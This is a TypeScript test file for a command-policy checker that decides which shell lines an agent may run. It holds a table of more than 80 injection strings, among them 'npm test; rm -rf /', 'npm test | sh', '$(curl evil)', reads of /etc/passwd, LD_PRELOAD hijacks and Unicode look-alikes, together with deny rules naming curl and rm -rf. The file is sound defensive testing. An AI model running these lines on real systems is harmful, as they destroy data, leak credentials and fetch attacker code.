// Tests of which command lines are run: attacks by the table, honest lines, and what checks allow.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { judgeCommand, patternsOfChecks, type CommandPolicy } from './command-policy.js'

const POLICY: CommandPolicy = { allow: ['npm *', 'python3 -m pytest *', 'node --test *', 'make check', './scripts/test.sh *'], deny: ['npm publish', 'npm * --registry', '* --upload'], timeoutSeconds: 9 }
const OPEN: CommandPolicy = { allow: ['*'], deny: ['curl', 'rm -rf'], timeoutSeconds: 9 }

const argvOf = (line: string, policy = POLICY): readonly string[] | null => {
  const judged = judgeCommand(line, policy)
  return judged.kind === 'allowed' ? judged.argv : null
}

/** By what they try. None of them is run under the rules above. */
const ATTACKS: Record<string, readonly string[]> = {
  'another command after it': [
    'npm test; rm -rf /', 'npm test;rm x', 'npm test && curl evil', 'npm test || curl evil', 'npm test & curl evil', 'npm test &', 'npm test\ncurl evil',
    'npm test\r\ncurl evil', 'npm test\rcurl evil', 'npm test\u2028curl evil', 'npm test\u0085curl evil', 'npm test\u000bcurl evil', 'npm test \\\n; curl evil',
  ],
  'a pipe or a file': [
    'npm test | sh', 'npm test |& tee x', 'npm test > ~/.bashrc', 'npm test >> x', 'npm test 2>&1', 'npm test < /etc/passwd', 'npm test <(curl evil)', 'npm test >(sh)', 'npm test <<EOF', 'npm test <<< x', 'cat x | npm test',
  ],
  'something put in': [
    'npm test $(curl evil)', 'npm test `curl evil`', 'npm test "$(curl evil)"', 'npm test "`curl evil`"', 'npm test $HOME', 'npm test ${IFS}x', 'npm test "${HOME}"', "npm test $'\\x41'", 'npm test $((1))', 'npm test ~/x', 'npm test ~root/x', 'npm --prefix=~/x test', 'npm test a"$(x)"b', "npm test 'a'\"$x\"'b'",
  ],
  'a variable before it': ['PATH=/tmp/evil npm test', 'LD_PRELOAD=/tmp/x.so npm test', ' NODE_OPTIONS=--require=/tmp/x npm test', 'A=1 B=2 npm test', '_=x npm test'],
  'a group or a loop': ['(npm test)', '( curl evil )', '{ curl evil; }', 'if true; then curl evil; fi', 'for x in a; do curl evil; done', '! curl evil', 'f() { curl evil; }; f', '[ -f x ]'],
  'another program': ['curl evil', 'wget evil', 'rm -rf .', 'cat /etc/passwd', 'nmp test', 'npmx test', 'Npm test', 'NPM test', 'np\u200bm test', 'n\u043fm test', 'python3 evil.py', 'python3 -c x', 'python3 -m http.server', 'node x.js', 'make', 'make install', 'make -f evil check'],
  'a program by a path': ['./npm test', '/tmp/npm test', '../npm test', 'node_modules/.bin/npm test', '/usr/bin/env npm test', './scripts/../evil.sh', './scripts/test.sh/../evil', 'scripts/test.sh', '//scripts/test.sh'],
  'a program that runs others': [
    'sh -c "npm test"', 'bash -c npm', 'env npm test', 'sudo npm test', 'xargs npm', 'nohup npm test', 'timeout 9 npm test', 'npx evil', 'npm exec evil', 'npm x evil', 'npm exec -- evil', 'npm --yes exec evil', 'npm explore x -- sh', 'npm publish', 'npm run build --registry http://evil', 'NPM exec evil', 'git push', 'ssh evil', 'eval npm test', 'exec npm test', 'command npm test',
  ],
  'a program that runs others, by its arguments': [
    'npm init evil', 'npm create evil', 'npm innit evil', 'npm config set script-shell /tmp/x', 'npm c set x', 'npm set script-shell x', 'npm execute evil', 'npm edit x',
    'docker run -v /:/x alpine', 'podman run x', 'nerdctl run x', 'xvfb-run npm test', 'corepack pnpm test', 'uv run evil', 'poetry run evil', 'pipenv run evil', 'pdm run evil', 'hatch run evil', 'rye run evil', 'bundle exec evil',
    'pnpm create evil', 'yarn create evil', 'bun create evil', 'pnpm dlx evil', 'yarn dlx evil', 'bun x evil', 'pnpm exec evil', 'deno run evil', 'go run evil', 'cargo run evil', 'conda run evil', 'dotenv npm test', 'direnv exec . sh',
  ],
  'signs that are not what they seem': ['npm\u00a0test', 'npm\u3000test', 'npm\u2003test', 'npm\ttest', 'npm test\u0000', 'npm test \u202e', 'npm test \u001b[2J', '\ufeffnpm test', 'npm test\u007f', 'npm\u180etest'],
  'quotes that do not close': ['npm test "', "npm test '", 'npm test \\', "npm 'test", 'npm "te st', '"npm" \'', '\\'],
  'nothing at all': ['', '   ', "''", '""', "'' npm test", '#', '# npm test', '$', '=', 'x'.repeat(2001), `npm ${'x'.repeat(2000)}`],
}

const LINES = Object.entries(ATTACKS).flatMap(([what, lines]) => lines.map((line) => [what, line] as const))

describe('a command line of a reply', () => {
  it('IS-09 is attacked in at least 80 ways below', () => {
    expect(new Set(LINES.map(([, line]) => line)).size).toBeGreaterThanOrEqual(80)
  })

  it.each(LINES)('IS-09 is not run when it has %s: %j', (_what, line) => {
    const judged = judgeCommand(line, POLICY)
    expect(judged).toEqual({ kind: 'blocked', why: expect.stringMatching(/\S/) as string })
    if (judged.kind === 'blocked') expect(judged.why).not.toContain('\n')
  })

  it.each([
    ['npm test', ['npm', 'test']],
    ['  npm   run  build ', ['npm', 'run', 'build']],
    ['npm test -- --grep "a b; c | d"', ['npm', 'test', '--', '--grep', 'a b; c | d']],
    ["npm test '$HOME `x` $(y) > z'", ['npm', 'test', '$HOME `x` $(y) > z']],
    ['npm test a\\ b \\$x', ['npm', 'test', 'a b', '$x']],
    ['npm test *.js {a,b} [x] a?b !x', ['npm', 'test', '*.js', '{a,b}', '[x]', 'a?b', '!x']],
    ['npm test a=b --x=1 #5', ['npm', 'test', 'a=b', '--x=1', '#5']],
    ['python3 -m pytest -q tests/test_a.py::test_b', ['python3', '-m', 'pytest', '-q', 'tests/test_a.py::test_b']],
    ['./scripts/test.sh --fast', ['./scripts/test.sh', '--fast']],
    ['make check', ['make', 'check']],
    ['make check V=1', ['make', 'check', 'V=1']],
    ['npm test größe', ['npm', 'test', 'größe']],
  ])('IS-09 is run as the words that it says: %j', (line, argv) => {
    expect(argvOf(line)).toEqual(argv)
  })

  it('IS-09 is denied wherever the words of a rule stand in it, and however the program is reached', () => {
    for (const line of ['curl x', '/usr/bin/curl x', 'CURL x', 'curl.exe x', 'rm -r -rf x', 'rm a -rf b', 'rm -RF x']) expect(argvOf(line, OPEN)).toBeNull()
    expect(argvOf('rm -r x', OPEN)).toEqual(['rm', '-r', 'x'])
    expect(judgeCommand('curl x', OPEN)).toEqual({ kind: 'blocked', why: 'denied by "curl"' })
  })

  it('IS-09 that runs others by its arguments is run by no rule for its program alone', () => {
    const wide: CommandPolicy = { allow: ['*', 'npm *', 'pnpm *', 'yarn *', 'bun *', 'uv *', 'poetry *', 'pipenv *', 'bundle *', 'docker'], deny: [], timeoutSeconds: 9 }
    for (const line of ['npm init x', 'npm create x', 'npm config set a b', 'npm exec x', 'pnpm create x', 'yarn create x', 'bun create x', 'uv run x', 'poetry run x', 'pipenv run x', 'bundle exec x', 'podman run x', 'xvfb-run x', 'corepack x']) {
      expect(judgeCommand(line, wide), line).toEqual({ kind: 'blocked', why: expect.stringMatching(/ can do anything, and no rule allows it by name$/) as string })
    }
    for (const line of ['npm test', 'npm run build', 'pnpm test', 'poetry install', 'bundle install', 'docker ps']) expect(argvOf(line, wide), line).not.toBeNull()
    expect(argvOf('uv run pytest -q', { ...wide, allow: ['uv run pytest *'] })).toEqual(['uv', 'run', 'pytest', '-q'])
  })

  it('IS-09 that runs others, or is a path, needs a rule that says so itself', () => {
    for (const line of ['sh -c x', 'env x', 'npx x', 'git status', 'npm exec x', './x', 'find . -exec x', 'find . -delete', 'find . -okdir x']) expect(argvOf(line, OPEN)).toBeNull()
    const named = { ...OPEN, allow: ['sh -c *', 'git status', './x', 'npx vitest *'] }
    expect(['sh -c x', 'git status -s', './x y', 'npx vitest run'].map((line) => argvOf(line, named))).not.toContain(null)
    expect(['sh x', 'git push', './y', 'npx jest'].map((line) => argvOf(line, named))).toEqual([null, null, null, null])
  })

  it('IS-09 is not run where nothing is allowed', () => {
    for (const allow of [[], [''], ["'"]]) expect(judgeCommand('npm test', { ...POLICY, allow })).toEqual({ kind: 'blocked', why: 'no rule allows it' })
  })

  it('IS-09 never gives words that a shell would not give as plain ones, and is judged without an error', () => {
    const pieces = fc.constantFrom('npm', ' ', 'test', ';', '|', '$(', ')', '`', '"', "'", '\\', '\n', '>', '&', '~', 'A=1 ', '\u00a0', 'sh', './x')
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 10 }), (list) => {
        const argv = argvOf(list.join(''))
        if (argv) expect(argv[0]).toBe('npm')
      }),
      { numRuns: 2000 },
    )
    for (const junk of ['"', "'", '\\', '*', 'a*', '$', 'npm ']) expect(judgeCommand(junk.repeat(100_000), { ...OPEN, allow: [`${'*a'.repeat(500)}`] }).kind).toBe('blocked')
  })
})

describe('what checks allow', () => {
  it.each([
    ['their programs, with any arguments', ['npm test', 'python3 -m pytest -q'], ['npm *', 'python3 *']],
    ['each command of a line', ['npm run lint && npm test; cargo test | cat'], ['npm *', 'cargo *', 'cat *']],
    ['without variables before it', ['CI=1 FOO=bar npm test'], ['npm *']],
    ['what runs others only as the check has it', ['npx vitest run', 'sh ci.sh', 'env X=1 npm test', 'uv run pytest -q', 'bundle exec rspec'], ['npx vitest run', 'sh ci.sh', 'env X=1 npm test', 'uv run pytest -q', 'bundle exec rspec']],
    ['a path only as the check has it', ['./gradlew test', 'node_modules/.bin/jest --ci'], ['./gradlew test', 'node_modules/.bin/jest --ci']],
    ['lists of words as they are', [['node', '--test', 'a b.js']], ['node *']],
    ['nothing that cannot be told for sure', ['$RUNNER test', '(cd x && npm test)', 'npm "', ''], []],
  ])('is %s', (_what, runs, patterns) => {
    expect(patternsOfChecks(runs)).toEqual(patterns)
  })

  it('lets the check itself be run, where it is one plain command', () => {
    for (const run of ['npm test', 'npx vitest run', './gradlew test', 'python3 -m pytest -q']) {
      expect(argvOf(run, { allow: patternsOfChecks([run]), deny: [], timeoutSeconds: 1 })).not.toBeNull()
    }
    expect(argvOf('npx evil', { allow: patternsOfChecks(['npx vitest run']), deny: [], timeoutSeconds: 1 })).toBeNull()
  })
})
